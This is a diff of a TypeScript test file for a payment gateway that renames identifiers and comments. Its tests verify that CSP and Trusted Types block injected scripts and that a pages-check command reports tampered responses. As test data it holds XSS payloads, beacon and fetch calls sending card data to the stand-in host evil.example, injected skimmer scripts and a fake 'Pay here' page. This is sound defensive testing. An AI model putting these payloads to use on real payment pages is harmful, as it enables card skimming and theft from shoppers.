@@ -7,21 +7,25 @@ import { checkPages } from '../../worker/cli/pagesCheck/checkPages.ts'
 import { run } from '../../worker/cli/wrangler/processes.ts'
 import { inRepository, repository } from '../../worker/cli/repository.ts'
 import { expect, test } from '../support/fixtures.ts'
-import { ChangedGateway, type Answer, type Change } from './tamperingProxy.ts'
-import { CheckoutMaker, CheckoutPage } from '../pages/checkoutPage.ts'
+import { TamperingProxy, type ProxiedResponse, type Tamper } from './tamperingProxy.ts'
+import { CheckoutClient, CheckoutPage } from '../pages/checkoutPage.ts'
 
-/** What may run in the pages where a card is typed, and how a change of it comes to light (PCI DSS 4.0.1, 6.4.3 and 11.6.1). */
+/** Script control and tamper detection of payment pages (PCI DSS 4.0.1, 6.4.3 and 11.6.1). */
 
-/** Does in a page what a script would do that got in, and says how each ended, and what the page heard of it. */
-const breakIn = async (frame: Frame): Promise<{ ended: Record<string, string>; heard: () => Promise<string[]> }> => {
-  const ended = await frame.evaluate(() => {
-    const heard: string[] = []
-    Object.assign(window, { heard })
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.push(effectiveDirective))
+/** Runs an injected script’s attempts in a page. @returns each result and the CSP violations */
+const runInjectedScript = async (
+  frame: Frame,
+): Promise<{ outcomes: Record<string, string>; violations: () => Promise<string[]> }> => {
+  const outcomes = await frame.evaluate(() => {
+    const violations: string[] = []
+    Object.assign(window, { violations })
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      violations.push(effectiveDirective),
+    )
     const { body } = document
     const policies = (window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } })
       .trustedTypes
-    const tries: Record<string, () => unknown> = {
+    const attempts: Record<string, () => unknown> = {
       innerHTML: () => (document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">'),
       outerHTML: () => (body.appendChild(document.createElement('div')).outerHTML = '<img src="x">'),
       insertAdjacentHTML: () => body.insertAdjacentHTML('beforeend', '<img src="x">'),
@@ -33,34 +37,36 @@ const breakIn = async (frame: Frame): Promise<{ ended: Record<string, string>; h
       // oxlint-disable-next-line no-eval
       eval: () => (0, eval)('1'),
       Function: () => new Function('return 1')() as unknown,
-      'a policy of its own': () => policies.createPolicy('evil', { createHTML: (text: string) => text }),
-      'the policy of ours': () => policies.createPolicy('lit-html', { createHTML: (text: string) => text }),
+      'its own Trusted Types policy': () => policies.createPolicy('evil', { createHTML: (text: string) => text }),
+      'the page’s Trusted Types policy': () =>
+        policies.createPolicy('lit-html', { createHTML: (text: string) => text }),
     }
-    // In a task of the page's own: what a debugger evaluates itself may call eval.
+    // In the page's own task, since code evaluated by a debugger may call eval.
     return new Promise<Record<string, string>>((resolve) =>
       setTimeout(() => {
-        const ends = Object.entries(tries).map(([name, attempt]) => {
+        const results = Object.entries(attempts).map(([name, attempt]) => {
           try {
             attempt()
-            return [name, 'was let pass']
+            return [name, 'succeeded']
           } catch (error) {
             return [name, (error as Error).name]
           }
         })
-        // These fail later, or without a word.
+        // These fail asynchronously or silently.
         new Image().src = 'https://evil.example/?card'
         fetch('https://evil.example/').catch(() => undefined)
-        resolve(Object.fromEntries(ends) as Record<string, string>)
+        resolve(Object.fromEntries(results) as Record<string, string>)
       }),
     )
   })
   return {
-    ended,
-    heard: () => frame.evaluate(() => [...new Set((window as never as { heard: string[] }).heard)].sort()),
+    outcomes,
+    violations: () =>
+      frame.evaluate(() => [...new Set((window as never as { violations: string[] }).violations)].sort()),
   }
 }
 
-const refused = {
+const blockedWith = {
   innerHTML: 'TypeError',
   outerHTML: 'TypeError',
   insertAdjacentHTML: 'TypeError',
@@ -71,50 +77,50 @@ const refused = {
   parseFromString: 'TypeError',
   eval: 'EvalError',
   Function: 'EvalError',
-  'a policy of its own': 'TypeError',
-  'the policy of ours': 'TypeError',
+  'its own Trusted Types policy': 'TypeError',
+  'the page’s Trusted Types policy': 'TypeError',
 }
 
-const expectRefused = async (frame: Frame): Promise<void> => {
-  const { ended, heard } = await breakIn(frame)
-  expect(ended).toEqual(refused)
-  await expect.poll(heard).toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types'])
+const expectInjectionBlocked = async (frame: Frame): Promise<void> => {
+  const { outcomes, violations } = await runInjectedScript(frame)
+  expect(outcomes).toEqual(blockedWith)
+  await expect.poll(violations).toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types'])
   expect(await frame.locator('img[src="x"]').count()).toBe(0)
 }
 
-test('a script that got into a payment page can write no HTML and no script, and call no other host', async ({
+test('payment pages: an injected script can write no HTML, run no script and call no other host', async ({
   page,
   form,
   local,
 }) => {
   await form.open()
-  await expectRefused(page.frames()[1]!)
+  await expectInjectionBlocked(page.frames()[1]!)
   const checkout = new CheckoutPage(page, local.gateway)
   await checkout.open()
-  await expectRefused(page.mainFrame())
+  await expectInjectionBlocked(page.mainFrame())
 })
 
 const evil = 'https://evil.example'
-const isCard = ({ path }: Answer) => path.startsWith('/card?')
-const isCheckout = ({ path }: Answer) => path.startsWith('/checkout/')
+const isCard = ({ path }: ProxiedResponse) => path.startsWith('/card?')
+const isCheckout = ({ path }: ProxiedResponse) => path.startsWith('/checkout/')
 const when =
-  (is: (answer: Answer) => boolean, change: Change): Change =>
+  (is: (answer: ProxiedResponse) => boolean, change: Tamper): Tamper =>
   (answer) => {
     if (is(answer)) change(answer)
   }
 const policy =
-  (from: string | RegExp, to: string): Change =>
+  (from: string | RegExp, to: string): Tamper =>
   ({ headers }) => {
     headers['content-security-policy'] = headers['content-security-policy']!.replace(from, to)
   }
 const body =
-  (from: string | RegExp, to: string): Change =>
+  (from: string | RegExp, to: string): Tamper =>
   (answer) => {
     answer.body = answer.body.replace(from, to)
   }
 
-/** Somebody who changes a script, and everything that the gateway says of it. */
-const thorough: Change = (answer) => {
+/** Changes a script and every hash of it that the gateway publishes. */
+const consistentTampering: Tamper = (answer) => {
   if (/^\/(embed|checkout-assets)\//.test(answer.path)) answer.body += ';'
   if (answer.path === '/sri.json') answer.body = answer.body.replaceAll(/sha384-[^"]+/g, 'sha384-theirs')
   if (answer.path.startsWith('/.well-known/')) {
@@ -125,8 +131,8 @@ const thorough: Change = (answer) => {
   }
 }
 
-/** What somebody changes on the way to the shopper, and what is said of it. */
-const changes: Readonly<Record<string, readonly [change: Change, told: string]>> = {
+/** Changes between gateway and shopper, with the expected report. */
+const tamperings: Readonly<Record<string, readonly [tamper: Tamper, report: string]>> = {
   'one byte of the card form’s script': [
     when(isCard, body(/.<\/script>$/, ' </script>')),
     '/card?locale=en: an inline script that is not in the build',
@@ -147,7 +153,9 @@ const changes: Readonly<Record<string, readonly [change: Change, told: string]>>
   'a script for browsers alone': [
     when(
       (answer) =>
-        isCheckout(answer) && /Chrome/.test(answer.asked['user-agent'] ?? '') && 'sec-fetch-dest' in answer.asked,
+        isCheckout(answer) &&
+        /Chrome/.test(answer.requestHeaders['user-agent'] ?? '') &&
+        'sec-fetch-dest' in answer.requestHeaders,
       body('</body>', '<script>steal()</script></body>'),
     ),
     'an inline script that is not in the build: sha384-',
@@ -156,22 +164,22 @@ const changes: Readonly<Record<string, readonly [change: Change, told: string]>>
     when(isCheckout, body('</head>', `<script src="${evil}/x.js"></script></head>`)),
     `a script was added: <script src="${evil}/x.js">`,
   ],
-  'a page of their own': [
+  'a replaced page': [
     when(isCheckout, (answer) => {
       answer.body = `<!doctype html><html lang="en"><a href="${evil}/">Pay here</a></html>`
     }),
     'the script is missing',
   ],
-  'a handler of an event': [
+  'an inline event handler': [
     when(isCheckout, body('<main', '<main onclick="steal()"')),
     'an attribute that the gateway never writes, onclick',
   ],
-  'a header less': [
+  'a missing header': [
     when(isCard, ({ headers }) => delete headers['permissions-policy']),
     '/card?locale=en: the header permissions-policy is missing',
   ],
   'a cookie': [when(isCheckout, ({ headers }) => (headers['set-cookie'] = 'a=1')), 'the header set-cookie was added'],
-  'no policy at all': [
+  'no Content-Security-Policy': [
     when(isCheckout, ({ headers }) => delete headers['content-security-policy']),
     'the header content-security-policy is missing',
   ],
@@ -179,7 +187,7 @@ const changes: Readonly<Record<string, readonly [change: Change, told: string]>>
     when(isCheckout, policy("'strict-dynamic'", "'strict-dynamic' 'unsafe-eval'")),
     "script-src has the extra source 'unsafe-eval'",
   ],
-  'another host to send to': [
+  'an extra host in connect-src': [
     when(isCard, policy("connect-src 'self'", `connect-src 'self' ${evil}`)),
     `connect-src has the extra source ${evil}`,
   ],
@@ -187,11 +195,11 @@ const changes: Readonly<Record<string, readonly [change: Change, told: string]>>
     when(isCard, policy(/require-trusted-types-for 'script'; /, '')),
     'require-trusted-types-for is missing',
   ],
-  'somebody who may frame it': [
+  'an extra frame ancestor': [
     when(isCard, policy("frame-ancestors 'none'", `frame-ancestors ${evil}`)),
     `frame-ancestors has the extra origin ${evil}`,
   ],
-  'the same nonce for all': [
+  'a constant nonce': [
     when(isCheckout, (answer) => {
       const nonce = /'nonce-([^']+)'/.exec(answer.headers['content-security-policy']!)![1]!
       const same = 'A'.repeat(22).concat('==')
@@ -201,15 +209,13 @@ const changes: Readonly<Record<string, readonly [change: Change, told: string]>>
     }),
     'two responses have the same nonce',
   ],
-  'a script and all that is said of it': [thorough, 'differs from the build'],
+  'a script with all its published hashes': [consistentTampering, 'differs from the build'],
 }
 
-test('whatever is changed on its way to the shopper is told by name, and nothing where nothing is', async ({
-  local,
-}) => {
-  const maker = new CheckoutMaker(local.gateway)
-  const [{ id }, framed] = await Promise.all([maker.make(), maker.make({ total: 5, iframe: true })])
-  // The command below reads the card form in all languages.
+test('pages check: each tampered response is reported, and untampered pages are clean', async ({ local }) => {
+  const client = new CheckoutClient(local.gateway)
+  const [{ id }, framed] = await Promise.all([client.create(), client.create({ total: 5, iframe: true })])
+  // Two languages suffice here; the command below checks all.
   const build = { ...(await readBuild(inRepository('dist'))), cardLocales: ['en', 'de'] }
   const real = {
     gateway: new URL(local.gateway),
@@ -218,46 +224,44 @@ test('whatever is changed on its way to the shopper is told by name, and nothing
     key: local.publishableKey,
     framedBy: null,
   }
-  // In test mode anybody may frame the pages of an account that names nobody. That is all there is to say of them.
+  // In test mode any page can frame those of an account without allowed origins. This is the only difference.
   const anybody = 'Content-Security-Policy: frame-ancestors has the extra origin *'
   expect((await checkPages({ ...real, framedBy: ['https://shop.example'] })).faults).toEqual(
     ['/card?locale=en', '/card?locale=de', `/checkout/${framed.id}`].map((path) => `${path}: ${anybody}`),
   )
 
-  const changed = new ChangedGateway(local.gateway)
-  const between = { ...real, gateway: await changed.open(), checkout: id, key: null }
+  const proxy = new TamperingProxy(local.gateway)
+  const between = { ...real, gateway: await proxy.open(), checkout: id, key: null }
   try {
     expect((await checkPages(between)).faults).toEqual([])
-    for (const [name, [change, told]] of Object.entries(changes)) {
-      changed.change = change
-      expect((await checkPages(between)).faults.join('\n'), name).toContain(told)
+    for (const [name, [tamper, report]] of Object.entries(tamperings)) {
+      proxy.tamper = tamper
+      expect((await checkPages(between)).faults.join('\n'), name).toContain(report)
     }
   } finally {
-    await changed.close()
+    await proxy.close()
   }
 })
 
-/** The command, with the build that is there: it would make another where a source is newer. */
-const check = (gateway: string) =>
+/** Runs the command with the existing build; by default it rebuilds from newer sources. */
+const runPagesCheck = (gateway: string) =>
   run({
     command: process.execPath,
     args: [join('worker', 'cli', 'pagesCheck', 'main.ts'), gateway, '--dist', inRepository('dist')],
     cwd: repository,
   })
 
-test('the command for a weekly job ends well where nothing is changed, and with code 1 where anything is', async ({
-  local,
-}) => {
-  const changed = new ChangedGateway(local.gateway)
-  changed.change = changes['a header less']![0]
-  const address = await changed.open()
+test('pages check command: exits with 0 without differences and with 1 for a difference', async ({ local }) => {
+  const proxy = new TamperingProxy(local.gateway)
+  proxy.tamper = tamperings['a missing header']![0]
+  const address = await proxy.open()
   try {
-    const [good, bad] = await Promise.all([check(local.gateway), check(address.origin)])
+    const [good, bad] = await Promise.all([runPagesCheck(local.gateway), runPagesCheck(address.origin)])
     expect(good.output).toContain('No differences.')
     expect(good.output).toContain('compared with the build')
     expect(bad.output).toContain('✗ /card?locale=de: the header permissions-policy is missing')
     expect([good.code, bad.code]).toEqual([0, 1])
   } finally {
-    await changed.close()
+    await proxy.close()
   }
 })
